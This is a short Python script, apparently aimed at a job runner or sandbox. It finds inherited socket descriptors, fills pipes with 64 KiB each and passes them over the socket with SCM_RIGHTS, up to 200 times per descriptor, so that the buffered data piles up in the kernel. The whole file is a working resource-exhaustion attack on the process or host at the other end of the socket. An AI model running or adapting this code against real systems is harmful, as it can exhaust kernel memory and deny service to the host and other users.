"""Sends full pipes along the job's socket, again and again, so that they pile up in the kernel."""
import array
import os
import socket

sent = 0
for descriptor in range(3, 10):
    try:
        job = socket.socket(fileno=os.dup(descriptor))
        job.setblocking(False)
    except OSError:
        continue
    for _ in range(200):
        try:
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            os.write(writing, bytes(1 << 16))
            job.sendmsg([b"A"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [reading, writing]))])
            sent += 1
        except OSError:
            pass
        finally:
            try:
                os.close(reading)
                os.close(writing)
            except (OSError, NameError):
                pass
print(sent)
